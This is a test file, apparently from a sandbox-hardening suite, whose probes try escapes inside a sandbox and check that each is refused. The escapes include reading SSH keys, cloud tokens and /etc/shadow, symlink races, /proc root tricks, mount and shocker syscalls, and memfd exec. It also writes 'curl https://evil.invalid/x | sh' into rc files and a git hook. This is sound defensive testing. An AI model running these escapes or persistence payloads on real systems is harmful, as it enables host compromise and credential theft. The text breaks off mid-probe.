/**
 * Filesystem: the sandbox sees only the files the policy names. Secrets under
 * ~ and in /etc, escapes through symlinks (made inside, planted outside, raced),
 * `..`, /proc/self/root and /proc/1/root, hard links, mount tricks, and writes
 * that would persist on the host (rc files, .git/hooks, /usr, /etc, /proc/sys).
 *
 * Reads are done in Python so each attempt reports its exact errno: ENOENT means
 * the path is not in the sandbox at all (mount namespace), EACCES that it is
 * masked (mode-0000 mask) or refused by Landlock, EROFS a read-only bind.
 */
import { existsSync, lstatSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { HOME_CREDENTIAL_FILES, HOME_SECRETS } from '../fixtures.js';
import { broken, E, error, errnoName, expectErrno, held, kv, noResult, py, verdictFromErrnos } from '../lib.js';
import type { Probe, ProbeContext, ProbeRun, Verdict } from '../types.js';

const group = 'filesystem' as const;

/**
 * A Python program that tries to read each path and prints `read<i>=errno`;
 * on success it also prints what it read (so a leak shows the canary).
 */
function readEach(paths: string[]): ReturnType<typeof py> {
  return py(`PATHS = ${JSON.stringify(paths)}
for i, p in enumerate(PATHS):
    try:
        with open(p, 'rb') as f:
            data = f.read()
        say('read%d' % i, 0)
        sys.stdout.write('content%d=%s\\n' % (i, data[:200].decode('latin-1').replace('\\n', ' ')))
    except OSError as e:
        say('read%d' % i, e.errno)`);
}

/** Every read refused with one of `refused`; any success is a leak. */
function readsRefused(paths: string[], refused: number[], by: string): (run: ProbeRun) => Verdict {
  return (run) => {
    const v = kv(run.stdout);
    const keys = paths.map((_, i) => `read${i}`);
    const opened = keys.map((k, i) => (v.get(k) === '0' ? paths[i] : null)).filter((p): p is string => p !== null);
    if (opened.length > 0) return broken(`read ${opened.join(', ')}`);
    const verdict = verdictFromErrnos(v, run, { keys, refused, by });
    if (verdict.status !== 'held') return verdict;
    const byErrno = new Map<string, number>();
    for (const k of keys) {
      const name = errnoName(Number(v.get(k)));
      byErrno.set(name, (byErrno.get(name) ?? 0) + 1);
    }
    return held(`${paths.length} read${paths.length === 1 ? '' : 's'} refused (${[...byErrno].map(([n, c]) => `${c}x ${n}`).join(', ')}) by ${by}`);
  };
}

const ENOENT_OR_EACCES = [E.ENOENT, E.EACCES];

/** The host file still holds exactly what the fixture planted. */
function unchanged(file: string, planted: string): boolean {
  try {
    return readFileSync(file, 'utf8') === planted;
  } catch {
    return false;
  }
}

const usrFiles = (ctx: ProbeContext) => [`/usr/bin/ward-probe-${ctx.id}`, `/usr/lib/ward-probe-${ctx.id}.so`, `/usr/local/bin/ward-probe-${ctx.id}`];

const homeSecrets = (ctx: ProbeContext, filter: (f: string) => boolean) => HOME_SECRETS.filter(filter).map((f) => path.join(ctx.home, f));

/**
 * Writes /bin/true into a memfd, without and with MFD_NOEXEC_SEAL, and execs it through
 * /proc/self/fd: `create:NAME=errno` or `exec:NAME=errno` (0: it ran). Shared with attacks.test.ts.
 */
export const MEMFD_EXEC = `code = open('/bin/true', 'rb').read()
for name, flags in (('plain', os.MFD_CLOEXEC), ('sealed', os.MFD_CLOEXEC | 8)):
    try:
        fd = os.memfd_create('payload', flags)
    except OSError as e:
        say('create:' + name, e.errno)
        continue
    os.write(fd, code)
    try:
        os.fchmod(fd, 0o755)
    except OSError:
        pass
    pid = os.fork()
    if pid == 0:
        try:
            os.execv('/proc/self/fd/%d' % fd, ['payload'])
        except OSError as e:
            os._exit(100 + e.errno)
    st = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    say('exec:' + name, 0 if st == 0 else st - 100)`;

export const probes: Probe[] = [
  {
    id: 'fs.read-ssh-key',
    group,
    promise: 'secrets',
    title: 'read the SSH private keys planted in ~/.ssh',
    mechanism: 'mount-namespace',
    asi: ['ASI03'],
    nist: ['AC-3', 'AC-6', 'IA-5'],
    expect: 'refused',
    program: (ctx) => readEach(homeSecrets(ctx, (f) => f.startsWith('.ssh/'))),
    check: (run, ctx) => readsRefused(homeSecrets(ctx, (f) => f.startsWith('.ssh/')), ENOENT_OR_EACCES, 'the mount namespace (private $HOME)')(run),
  },
  {
    id: 'fs.read-credential-files',
    group,
    promise: 'secrets',
    title: 'read cloud, registry and token files planted under ~ (.aws, .kube, .docker, .netrc, gh, ...)',
    mechanism: 'mount-namespace',
    asi: ['ASI03'],
    nist: ['AC-3', 'AC-6', 'IA-5'],
    expect: 'refused',
    program: (ctx) => readEach(homeSecrets(ctx, (f) => !f.startsWith('.ssh/'))),
    check: (run, ctx) => readsRefused(homeSecrets(ctx, (f) => !f.startsWith('.ssh/')), ENOENT_OR_EACCES, 'the mount namespace (private $HOME)')(run),
  },
  {
    id: 'fs.home-grant-keeps-secrets-masked',
    group,
    promise: 'secrets',
    title: 'with all of ~ granted, still read ~/.ssh, ~/.aws, ~/.netrc and the other mandatory denies',
    mechanism: 'mount-namespace',
    asi: ['ASI03'],
    nist: ['AC-3', 'AC-6', 'IA-5'],
    expect: 'refused',
    policy: { filesystem: { read: ['~'] } },
    program: (ctx) => readEach(homeSecrets(ctx, () => true)),
    // Masked: a mode-0000 file or directory bound over each one, so EACCES (never ENOENT: the grant shows ~).
    check: (run, ctx) => readsRefused(homeSecrets(ctx, () => true), [E.EACCES], 'mandatory deny masks')(run),
  },
  {
    id: 'fs.home-credential-files',
    group,
    promise: 'secrets',
    title: 'with all of ~ granted, read registry tokens (.npmrc, .pypirc, pip.conf, cargo, maven, gradle, composer, nuget), git credentials, cloud CLIs (oci, fly, pulumi, vercel, wrangler), terraform, rclone, age keys, shell histories, keyrings, password managers, browser and editor logins, AI keys and agents\' logins (.claude.json, gemini, copilot) and global npmrc files',
    mechanism: 'mount-namespace',
    asi: ['ASI03'],
    nist: ['AC-3', 'AC-6', 'IA-5'],
    expect: 'refused',
    policy: { filesystem: { read: ['~'] } },
    program: (ctx) => readEach(HOME_CREDENTIAL_FILES.map((f) => path.join(ctx.home, f))),
    check: (run, ctx) => readsRefused(HOME_CREDENTIAL_FILES.map((f) => path.join(ctx.home, f)), [E.EACCES], 'mandatory deny masks')(run),
  },
  {
    id: 'fs.move-mask-parent',
    group,
    promise: 'secrets',
    title: 'rename the directory above a masked secret (or the masked directory) inside the writable workspace, so a later run finds it unmasked under another name',
    mechanism: 'mount-namespace',
    asi: ['ASI03'],
    nist: ['AC-3', 'AC-6'],
    expect: 'refused',
    policy: { filesystem: { deny: ['${WORKSPACE}/config/gh'] } },
    setup: (ctx) => {
      mkdirSync(path.join(ctx.ws, 'config/gh'), { recursive: true });
      writeFileSync(path.join(ctx.ws, 'config/gh/hosts.yml'), `oauth_token: ${ctx.canary}\n`);
    },
    program: py(`attempt('rename', lambda: os.rename('config', 'config-x'))
attempt('rename_mask', lambda: os.rename('config/gh', 'config/gh-x'))
attempt('read', lambda: sys.stdout.write('content=%s\\n' % open('config-x/gh/hosts.yml').read()))`),
    check: (run, ctx) => {
      if (!unchanged(path.join(ctx.ws, 'config/gh/hosts.yml'), `oauth_token: ${ctx.canary}\n`)) return broken('the masked file is no longer at its path on the host: a later run would not mask it');
      if (existsSync(path.join(ctx.ws, 'config-x'))) return broken('the directory above the mask was renamed on the host');
      // EROFS: a policy under test whose workspace is read-only holds this on its own.
      return expectErrno({ keys: ['rename', 'rename_mask'], refused: [E.EBUSY, E.EROFS], by: 'a bind of every directory between the workspace and the mask (each a mount point)' })(run);
    },
  },
  {
    id: 'fs.deny-link-reaim',
    group,
    promise: 'secrets',
    title: "re-aim a symlink inside the writable workspace that a deny is written through (.secrets -> vault), so a later run masks a decoy and shows the vault",
    mechanism: 'sandbox',
    asi: ['ASI03'],
    nist: ['AC-3', 'AC-6'],
    expect: 'refused',
    policy: { filesystem: { deny: ['${WORKSPACE}/.secrets'] } },
    setup: (ctx) => {
      mkdirSync(path.join(ctx.ws, 'vault'));
      writeFileSync(path.join(ctx.ws, 'vault/key'), `${ctx.canary}\n`);
      symlinkSync('vault', path.join(ctx.ws, '.secrets'));
    },
    program: py(`attempt('read', lambda: sys.stdout.write('content=%s\\n' % open('vault/key').read().strip()))
attempt('reaim', lambda: (os.unlink('.secrets'), os.mkdir('decoy'), os.symlink('decoy', '.secrets')))`),
    // The fix: Ward refuses a deny through a link in a writable grant before anything runs.
    refused: (e) => (/goes through the symlink .*\.secrets -> vault, which lies inside the writable grant .*re-aim/.test(e.message) ? held(`refused before the run: ${e.message.split(': a sandboxed')[0]}`) : null),
    check: (run, ctx) => {
      if (run.stdout.includes(ctx.canary)) return broken('the denied file was read through its real name');
      const v = kv(run.stdout);
      if (!v.has('reaim')) return noResult(run, 'the re-aim attempt');
      // A policy under test whose workspace is read-only cannot have the link re-aimed: nothing to refuse.
      if (v.get('reaim') !== '0') return held(`the link could not be re-aimed (${errnoName(Number(v.get('reaim')))})`);
      return broken(`the deny through ${ctx.ws}/.secrets -> vault ran and the command re-aimed the link: the next run masks decoy and shows vault/key`);
    },
  },
  {
    id: 'fs.read-etc-shadow',
    group,
    promise: 'filesystem',
    title: 'read /etc/shadow, /etc/gshadow and /etc/sudoers',
    mechanism: 'mount-namespace',
    asi: ['ASI03'],
    nist: ['AC-3', 'AC-6'],
    expect: 'refused',
    program: readEach(['/etc/shadow', '/etc/gshadow', '/etc/sudoers']),
    check: readsRefused(['/etc/shadow', '/etc/gshadow', '/etc/sudoers'], ENOENT_OR_EACCES, 'the mount namespace (/etc is not bound)'),
  },
  {
    id: 'fs.etc-grant-keeps-shadow-masked',
    group,
    promise: 'filesystem',
    title: 'with all of /etc granted, still read /etc/shadow',
    mechanism: 'mount-namespace',
    asi: ['ASI03'],
    nist: ['AC-3', 'AC-6'],
    expect: 'refused',
    policy: { filesystem: { read: ['/etc'] } },
    requires: () => (existsSync('/etc/shadow') ? null : 'this host has no /etc/shadow'),
    program: readEach(['/etc/shadow']),
    check: readsRefused(['/etc/shadow'], [E.EACCES], 'the mandatory deny mask'),
  },
  {
    id: 'fs.symlink-escape',
    group,
    promise: 'filesystem',
    title: 'follow symlinks to a host secret: one made inside, one planted by the host in the workspace',
    mechanism: 'mount-namespace',
    asi: ['ASI05'],
    nist: ['AC-3', 'SC-39'],
    expect: 'refused',
    setup: (ctx) => symlinkSync(path.join(ctx.outside, 'secret.txt'), path.join(ctx.ws, 'planted-link')),
    program: (ctx) =>
      py(`os.symlink(${JSON.stringify(path.join(ctx.outside, 'secret.txt'))}, 'made-link')
os.symlink('/etc/shadow', 'shadow-link')
for i, p in enumerate(['made-link', 'planted-link', 'shadow-link']):
    attempt('read%d' % i, lambda: sys.stdout.write('content=%s\\n' % open(p).read()))`),
    check: expectErrno({ keys: ['read0', 'read1', 'read2'], refused: [E.ENOENT], by: 'the mount namespace (the link target does not exist inside)' }),
  },
  {
    id: 'fs.symlink-race',
    group,
    promise: 'filesystem',
    title: 'race a symlink between a workspace file and a host secret while reading it in a loop',
    mechanism: 'mount-namespace',
    asi: ['ASI05'],
    nist: ['AC-3', 'SC-39'],
    expect: 'refused',
    program: (ctx) =>
      py(`import threading
with open('benign.txt', 'w') as f:
    f.write('BENIGN')
targets = [${JSON.stringify(path.join(ctx.outside, 'secret.txt'))}, 'benign.txt', '/etc/shadow', '../outside/secret.txt']
stop = [False]
def flip():
    n = 0
    while not stop[0]:
        t = targets[n % len(targets)]
        n += 1
        try:
            os.unlink('link.tmp')
        except OSError:
            pass
        os.symlink(t, 'link.tmp')
        os.rename('link.tmp', 'link')
os.symlink('benign.txt', 'link')
th = threading.Thread(target=flip)
th.start()
counts = {'benign': 0, 'enoent': 0, 'other': 0, 'leaked': 0}
end = time.time() + 0.8
while time.time() < end:
    try:
        with open('link', 'rb') as f:
            d = f.read()
        if d == b'BENIGN':
            counts['benign'] += 1
        else:
            counts['leaked'] += 1
            sys.stdout.write('content=%s\\n' % d[:100].decode('latin-1'))
    except OSError as e:
        counts['enoent' if e.errno == errno.ENOENT else 'other'] += 1
    time.sleep(0)
stop[0] = True
th.join()
for k, v in counts.items():
    say(k, v)`),
    check: (run) => {
      const v = kv(run.stdout);
      if (!v.has('leaked')) return noResult(run, 'the race');
      const [benign, enoent, other, leaked] = ['benign', 'enoent', 'other', 'leaked'].map((k) => Number(v.get(k)));
      if (leaked! > 0) return broken(`${leaked} of the reads returned something other than the workspace file`);
      if (benign === 0 || enoent === 0) return error(`the race did not happen (benign ${benign}, ENOENT ${enoent}): the probe proves nothing`);
      return held(`${benign! + enoent! + other!} racing reads: ${benign} got the workspace file, ${enoent} ENOENT, ${other} other errors, none reached the host`);
    },
  },
  {
    id: 'fs.dotdot-escape',
    group,
    promise: 'filesystem',
    title: 'climb out of the workspace with ..: read a sibling secret, /etc/shadow, list the parent',
    mechanism: 'mount-namespace',
    asi: ['ASI05'],
    nist: ['AC-3', 'SC-39'],
    expect: 'refused',
    program: py(`attempt('read0', lambda: sys.stdout.write('content=%s\\n' % open('../outside/secret.txt').read()))
attempt('read1', lambda: sys.stdout.write('content=%s\\n' % open('../' * 16 + 'etc/shadow').read()))
try:
    say('parent', ','.join(sorted(os.listdir('..'))))
except OSError as e:
    say('parent', 'errno%d' % e.errno)`),
    check: (run) => {
      const v = kv(run.stdout);
      const reads = verdictFromErrnos(v, run, { keys: ['read0', 'read1'], refused: ENOENT_OR_EACCES, by: 'the mount namespace' });
      if (reads.status !== 'held') return reads;
      const parent = v.get('parent');
      if (parent === undefined) return noResult(run, 'listing ..');
      const extra = parent.startsWith('errno') ? [] : parent.split(',').filter((n) => n !== '' && n !== 'ws' && n !== 'home');
      if (extra.length > 0) return broken(`the parent of the workspace shows host entries: ${extra.join(', ')}`);
      return held(`${reads.detail}; the parent holds only the path to the workspace (${parent})`);
    },
  },
  {
    id: 'fs.proc-self-root',
    group,
    promise: 'filesystem',
    title: 'reach the host through /proc/self/root and /proc/self/cwd/..',
    mechanism: 'mount-namespace',
    asi: ['ASI05'],
    nist: ['AC-3', 'SC-39'],
    expect: 'refused',
    program: (ctx) => readEach([`/proc/self/root${ctx.outside}/secret.txt`, '/proc/self/root/etc/shadow', '/proc/self/cwd/../outside/secret.txt']),
    check: (run, ctx) => readsRefused([`/proc/self/root${ctx.outside}/secret.txt`, '/proc/self/root/etc/shadow', '/proc/self/cwd/../outside/secret.txt'], ENOENT_OR_EACCES, 'the mount namespace (/proc/self/root is the sandbox root)')(run),
  },
  {
    id: 'fs.proc-1-root',
    group,
    promise: 'filesystem',
    title: "reach the host through pid 1's root and cwd (/proc/1/root, /proc/1/cwd)",
    mechanism: 'pid-namespace',
    asi: ['ASI05'],
    nist: ['AC-3', 'SC-39'],
    expect: 'refused',
    program: (ctx) =>
      py(`for i, p in enumerate([${JSON.stringify(`/proc/1/root${ctx.outside}/secret.txt`)}, '/proc/1/root/etc/shadow', '/proc/1/cwd/../outside/secret.txt']):
    attempt('read%d' % i, lambda: sys.stdout.write('content=%s\\n' % open(p).read()))
try:
    say('root', ','.join(sorted(os.listdir('/proc/1/root'))))
except OSError as e:
    say('root', 'errno%d' % e.errno)`),
    check: (run) => {
      const v = kv(run.stdout);
      const reads = verdictFromErrnos(v, run, { keys: ['read0', 'read1', 'read2'], refused: ENOENT_OR_EACCES, by: "the pid namespace (pid 1 is the sandbox's own init) and its ptrace access check" });
      if (reads.status !== 'held') return reads;
      const root = v.get('root') ?? '';
      const hostOnly = root.split(',').filter((n) => ['boot', 'srv', 'var', 'home', 'root', 'mnt', 'opt'].includes(n));
      if (hostOnly.length > 0) return broken(`/proc/1/root lists host directories: ${hostOnly.join(', ')}`);
      return held(`${reads.detail}; /proc/1/root: ${root.startsWith('errno') ? errnoName(Number(root.slice(5))) : 'the sandbox root'}`);
    },
  },
  {
    id: 'fs.hardlink-escape',
    group,
    promise: 'filesystem',
    title: 'hard-link a host secret, a read-only system file and the masked .env into the workspace',
    mechanism: 'mount-namespace',
    asi: ['ASI05'],
    nist: ['AC-3', 'SC-39'],
    expect: 'refused',
    program: (ctx) =>
      py(`attempt('link0', lambda: os.link(${JSON.stringify(path.join(ctx.outside, 'secret.txt'))}, 'hl-secret'))
attempt('link1', lambda: os.link('/etc/passwd', 'hl-passwd'))
attempt('link2', lambda: os.link('.env', 'hl-env'))`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      // A new name for a read-only system file would be a writable one; for .env, a name without the mask.
      const parts = [
        verdictFromErrnos(v, run, { keys: ['link0'], refused: [E.ENOENT], by: 'the mount namespace (the source does not exist inside)' }),
        verdictFromErrnos(v, run, { keys: ['link1', 'link2'], refused: [E.EXDEV, E.EPERM, E.EACCES], by: 'separate mounts (EXDEV) and Landlock' }),
      ];
      const bad = parts.find((p) => p.status !== 'held');
      if (bad) return bad;
      for (const f of ['hl-secret', 'hl-passwd', 'hl-env']) if (existsSync(path.join(ctx.ws, f))) return broken(`the link ${f} exists on the host`);
      return held(parts.map((p) => p.detail).join('; '));
    },
  },
  {
    id: 'fs.bind-mount-tricks',
    group,
    promise: 'filesystem',
    title: 'bind-mount / into the workspace, remount /usr read-write, unmount the mask over .env',
    mechanism: 'seccomp',
    asi: ['ASI05'],
    nist: ['AC-3', 'SC-39', 'CM-7'],
    expect: 'refused',
    program: py(`os.mkdir('m')
MS_BIND, MS_REC, MS_REMOUNT, MNT_DETACH = 4096, 16384, 32, 2
say('bind', sc(165, b'/', b'm', None, MS_BIND | MS_REC, None))
say('remount', sc(165, None, b'/usr', None, MS_REMOUNT | MS_BIND, None))
say('umount', sc(166, b'.env', MNT_DETACH))
attempt('read', lambda: sys.stdout.write('content=%s\\n' % open('.env').read()))`),
    check: (run) => {
      const v = kv(run.stdout);
      const calls = verdictFromErrnos(v, run, { keys: ['bind', 'remount', 'umount'], refused: [E.EPERM], by: 'seccomp (mount, umount2)' });
      if (calls.status !== 'held') return calls;
      const read = verdictFromErrnos(v, run, { keys: ['read'], refused: [E.EACCES], by: 'the .env mask' });
      return read.status === 'held' ? held(`${calls.detail}; .env still masked`) : read;
    },
  },
  {
    id: 'fs.new-mount-api',
    group,
    promise: 'filesystem',
    title: 'clone the mount tree with open_tree, build a mount with fsopen, change attributes with mount_setattr',
    mechanism: 'seccomp',
    asi: ['ASI05'],
    nist: ['AC-3', 'SC-39', 'CM-7'],
    expect: 'refused',
    program: py(`OPEN_TREE_CLONE, AT_RECURSIVE, AT_FDCWD = 1, 0x8000, -100
say('open_tree', sc(428, AT_FDCWD, b'/', OPEN_TREE_CLONE | AT_RECURSIVE))
say('fsopen', sc(430, b'tmpfs', 0))
say('move_mount', sc(429, AT_FDCWD, b'/tmp', AT_FDCWD, b'/usr', 0))
attr = ctypes.create_string_buffer(32)
say('mount_setattr', sc(442, AT_FDCWD, b'/usr', 0, attr, 32))`),
    check: expectErrno({ keys: ['open_tree', 'fsopen', 'move_mount', 'mount_setattr'], refused: [E.EPERM], by: 'seccomp (new mount API)' }),
  },
  {
    id: 'fs.open-by-handle',
    group,
    promise: 'filesystem',
    title: 'open a file by handle, ignoring the mount layout (the "shocker" escape)',
    mechanism: 'seccomp',
    asi: ['ASI05'],
    nist: ['AC-3', 'SC-39'],
    expect: 'refused',
    program: py(`handle = ctypes.create_string_buffer(136)
struct.pack_into('=I', handle, 0, 128)
mount_id = ctypes.c_int(0)
say('name_to_handle_at', sc(303, -100, b'/etc/passwd', handle, ctypes.byref(mount_id), 0))
say('open_by_handle_at', sc(304, -100, handle, os.O_RDONLY))`),
    check: expectErrno({ keys: ['name_to_handle_at', 'open_by_handle_at'], refused: [E.EPERM], by: 'seccomp' }),
  },
  ...(['.bashrc', '.profile'] as const).map(
    (rc): Probe => ({
      id: `fs.write-${rc.slice(1)}`,
      group,
      promise: 'filesystem',
      title: `persist by appending to ~/${rc}${rc === '.bashrc' ? ' and ~/.zshrc' : ' and ~/.bash_profile'}`,
      mechanism: 'mount-namespace',
      asi: ['ASI10', 'ASI05'],
      nist: ['AC-3', 'CM-5', 'SI-7'],
      expect: 'refused',
      program: py(`for i, f in enumerate(['${rc}', '${rc === '.bashrc' ? '.zshrc' : '.bash_profile'}']):
    attempt('write%d' % i, lambda: open(os.path.expanduser('~/' + f), 'a').write('curl https://evil.invalid/x | sh\\n'))`),
      check: (run, ctx) => {
        const v = kv(run.stdout);
        if (!v.has('write0') || !v.has('write1')) return noResult(run, 'the writes');
        const files = [rc, rc === '.bashrc' ? '.zshrc' : '.bash_profile'];
        for (const f of files) {
          if (!unchanged(path.join(ctx.home, f), `# ${f}: planted by the probe suite\n`)) return broken(`the host's ~/${f} was changed`);
        }
        const inside = ['write0', 'write1'].map((k) => errnoName(Number(v.get(k)))).join(', ');
        return held(`the host's ${files.map((f) => `~/${f}`).join(' and ')} are unchanged (inside: ${inside}; $HOME is a private tmpfs)`);
      },
    }),
  ),
  {
    id: 'fs.write-git-hooks-outside',
    group,
    promise: 'filesystem',
    title: "plant a pre-commit hook in the enclosing repository's .git/hooks, outside the workspace",
    mechanism: 'mount-namespace',
    asi: ['ASI04', 'ASI09'],
    nist: ['AC-3', 'CM-5', 'SI-7'],
    expect: 'refused',
    setup: (ctx) => {
      const hooks = path.join(path.dirname(ctx.ws), '.git', 'hooks');
      mkdirSync(hooks, { recursive: true });
      writeFileSync(path.join(hooks, 'pre-commit.sample'), '#!/bin/sh\n');
    },
    program: py(`def plant():
    os.makedirs('../.git/hooks', exist_ok=True)
    with open('../.git/hooks/pre-commit', 'w') as f:
        f.write('#!/bin/sh\\ncurl https://evil.invalid/x | sh\\n')
    os.chmod('../.git/hooks/pre-commit', 0o755)
attempt('plant', plant)`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      if (!v.has('plant')) return noResult(run, 'the hook');
      const hook = path.join(path.dirname(ctx.ws), '.git', 'hooks', 'pre-commit');
      if (existsSync(hook)) return broken(`${hook} exists on the host`);
      return held(`no hook on the host (inside: ${errnoName(Number(v.get('plant')))}; the parent of the workspace is not the host's)`);
    },
  },
  {
    id: 'fs.write-usr',
    group,
    promise: 'filesystem',
    title: 'drop a program into /usr/bin and /usr/lib',
    mechanism: 'mount-namespace',
    asi: ['ASI05', 'ASI10'],
    nist: ['AC-3', 'CM-5', 'SI-7'],
    expect: 'refused',
    program: (ctx) =>
      py(`for i, p in enumerate(${JSON.stringify(usrFiles(ctx))}):
    attempt('write%d' % i, lambda: os.close(os.open(p, os.O_WRONLY | os.O_CREAT, 0o755)))`),
    // If the sandbox did get through, what it made (uniquely named) does not stay on the host.
    teardown: (ctx) => {
      for (const f of usrFiles(ctx)) rmSync(f, { force: true });
    },
    check: (run, ctx) => {
      const files = usrFiles(ctx);
      const onHost = files.filter((f) => existsSync(f));
      if (onHost.length > 0) return broken(`created on the host: ${onHost.join(', ')}`);
      return expectErrno({ keys: ['write0', 'write1', 'write2'], refused: [E.EROFS, E.EACCES, E.ENOENT], by: 'read-only binds (and Landlock)' })(run);
    },
  },
  {
    id: 'fs.write-etc',
    group,
    promise: 'filesystem',
    title: 'create /etc/ld.so.preload and a cron job, append a user to /etc/passwd',
    mechanism: 'mount-namespace',
    asi: ['ASI05', 'ASI10'],
    nist: ['AC-3', 'CM-5', 'SI-7'],
    expect: 'refused',
    setup: (ctx) => {
      ctx.state.passwdSize = statSync('/etc/passwd').size;
      ctx.state.preload = existsSync('/etc/ld.so.preload');
      ctx.state.cron = existsSync('/etc/cron.d/ward-probe');
    },
    program: py(`attempt('write0', lambda: os.close(os.open('/etc/ld.so.preload', os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)))
attempt('write1', lambda: os.close(os.open('/etc/cron.d/ward-probe', os.O_WRONLY | os.O_CREAT, 0o644)))
attempt('write2', lambda: os.close(os.open('/etc/passwd', os.O_WRONLY | os.O_APPEND)))`),
    teardown: (ctx) => {
      // Only what this probe could have created (an empty file is all it ever makes).
      if (!ctx.state.preload && existsSync('/etc/ld.so.preload') && statSync('/etc/ld.so.preload').size === 0) rmSync('/etc/ld.so.preload', { force: true });
      if (!ctx.state.cron) rmSync('/etc/cron.d/ward-probe', { force: true });
    },
    check: (run, ctx) => {
      if (statSync('/etc/passwd').size !== ctx.state.passwdSize) return broken('/etc/passwd changed size on the host');
      if (!ctx.state.preload && existsSync('/etc/ld.so.preload')) return broken('/etc/ld.so.preload now exists on the host');
      if (!ctx.state.cron && existsSync('/etc/cron.d/ward-probe')) return broken('/etc/cron.d/ward-probe exists on the host');
      return expectErrno({ keys: ['write0', 'write1', 'write2'], refused: [E.EROFS, E.EACCES, E.ENOENT], by: 'the read-only root and binds (and Landlock)' })(run);
    },
  },
  {
    id: 'fs.write-outside',
    group,
    promise: 'filesystem',
    title: 'write into a host directory outside every grant, by its absolute path',
    mechanism: 'mount-namespace',
    asi: ['ASI05'],
    nist: ['AC-3', 'SC-39'],
    expect: 'refused',
    program: (ctx) => py(`attempt('write', lambda: open(${JSON.stringify(path.join(ctx.outside, 'pwned'))}, 'w').write('x'))`),
    check: (run, ctx) => {
      if (existsSync(path.join(ctx.outside, 'pwned'))) return broken(`${ctx.outside}/pwned exists on the host`);
      return expectErrno({ keys: ['write'], refused: [E.ENOENT, E.EROFS, E.EACCES], by: 'the mount namespace' })(run);
    },
  },
  {
    id: 'fs.exec-from-tmp',
    group,
    promise: 'filesystem',
    title: 'copy a program to writable /tmp and /dev/shm and run it from there',
    mechanism: 'landlock',
    asi: ['ASI05'],
    nist: ['AC-3', 'CM-7'],
    expect: 'refused',
    program: {
      sh: 'for d in /tmp /dev/shm; do cp /bin/true "$d/t" 2>/dev/null && chmod +x "$d/t" && { "$d/t"; echo "exec:$d=$?"; }; done',
    },
    check: (run) => {
      const v = kv(run.stdout);
      const tmp = v.get('exec:/tmp');
      if (tmp === undefined) return noResult(run, 'exec from /tmp');
      if (tmp === '0' || v.get('exec:/dev/shm') === '0') return broken(`a program copied to ${tmp === '0' ? '/tmp' : '/dev/shm'} ran`);
      if (!/Permission denied/.test(run.stderr)) return error(`exec failed (${tmp}) but not with EACCES: ${run.stderr.trim().split('\n')[0]}`);
      return held(`exec of the copied file by path refused with EACCES (Landlock: /tmp is writable, not executable). Only exec by path is covered: the dynamic loader or an interpreter still runs code from a writable file (/lib64/ld-linux-x86-64.so.2 /tmp/t), as no mount is noexec`);
    },
  },
  {
    id: 'fs.exec-memfd',
    group,
    promise: 'filesystem',
    title: 'write a program into an anonymous memfd and execve it through /proc/self/fd',
    mechanism: 'seccomp',
    asi: ['ASI05'],
    nist: ['AC-3', 'CM-7'],
    expect: 'refused',
    // A memfd has no path, so Landlock's execute check never sees it. Flagless: refused by the
    // filter (ENOSYS); with MFD_NOEXEC_SEAL: made, but never executable (EACCES).
    program: py(MEMFD_EXEC),
    check: (run) => {
      const v = kv(run.stdout);
      if (v.get('exec:plain') === '0' || v.get('exec:sealed') === '0') return broken(`a program written into a memfd ran (${v.get('exec:plain') === '0' ? 'without' : 'with'} MFD_NOEXEC_SEAL)`);
      const plain = v.get('create:plain') ?? v.get('exec:plain');
      const sealed = v.get('exec:sealed') ?? v.get('create:sealed');
      if (plain === undefined || sealed === undefined) return noResult(run, 'the memfd attempts');
      if (v.get('create:plain') !== String(E.ENOSYS)) return error(`a memfd without MFD_NOEXEC_SEAL was not refused with ENOSYS (${v.has('create:plain') ? `errno ${plain}` : `made; exec: ${errnoName(Number(plain))}`})`);
      if (sealed !== String(E.EACCES) && v.get('create:sealed') !== String(E.EINVAL)) return error(`exec of a sealed memfd failed with ${errnoName(Number(sealed))}, not EACCES`);
      return held(`memfd_create without MFD_NOEXEC_SEAL refused (ENOSYS, seccomp); ${v.has('exec:sealed') ? 'a sealed memfd cannot be executed (EACCES)' : 'this kernel has no MFD_NOEXEC_SEAL (EINVAL): no memfd can be made'}`);
    },
  },
  {
    id: 'fs.write-proc-sys',
    group,
    promise: 'escalation',
    title: 'open kernel.core_pattern, kernel.modprobe and other global sysctls for writing (never writes)',
    mechanism: 'mount-namespace',
    asi: ['ASI05', 'ASI03'],
    nist: ['AC-6', 'SC-39', 'CM-7'],
    expect: 'refused',
    // Opening is where the permission check happens; nothing is ever written, so a
    // broken sandbox is reported without being exploited.
    program: py(`PATHS = ['/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/vm/drop_caches', '/proc/sys/kernel/sysrq', '/proc/sys/fs/suid_dumpable', '/proc/sysrq-trigger']
for i, p in enumerate(PATHS):
    try:
        fd = os.open(p, os.O_WRONLY)
        os.close(fd)
        say('open%d' % i, 0)
    except OSError as e:
        say('open%d' % i, e.errno)`),
    check: (run) => {
      const v = kv(run.stdout);
      const names = ['core_pattern', 'modprobe', 'drop_caches', 'sysrq', 'suid_dumpable', 'sysrq-trigger'];
      const opened = names.filter((_, i) => v.get(`open${i}`) === '0');
      if (opened.length > 0) return broken(`opened for writing: ${opened.join(', ')} (a write to core_pattern or modprobe runs a program as the host's root)`);
      return expectErrno({ keys: names.map((_, i) => `open${i}`), refused: [E.EACCES, E.EROFS, E.ENOENT, E.EPERM], by: 'the read-only /proc mount, Landlock (/proc is read-only) and procfs permissions' })(run);
    },
  },
  {
    id: 'fs.mknod-device',
    group,
    promise: 'escalation',
    title: 'create block and character device nodes (a disk, /dev/mem) in the workspace',
    mechanism: 'landlock',
    asi: ['ASI05', 'ASI03'],
    nist: ['AC-6', 'SC-39'],
    expect: 'refused',
    program: py(`import stat
attempt('disk', lambda: os.mknod('sda', stat.S_IFBLK | 0o666, os.makedev(8, 0)))
attempt('mem', lambda: os.mknod('mem', stat.S_IFCHR | 0o666, os.makedev(1, 1)))`),
    check: (run, ctx) => {
      for (const f of ['sda', 'mem']) {
        try {
          const s = lstatSync(path.join(ctx.ws, f));
          if (s.isBlockDevice() || s.isCharacterDevice()) return broken(`a device node ${f} exists in the host workspace`);
        } catch {
          /* absent: good */
        }
      }
      // Landlock grants no device-creation right anywhere (EACCES); CAP_MKNOD is gone behind it (EPERM).
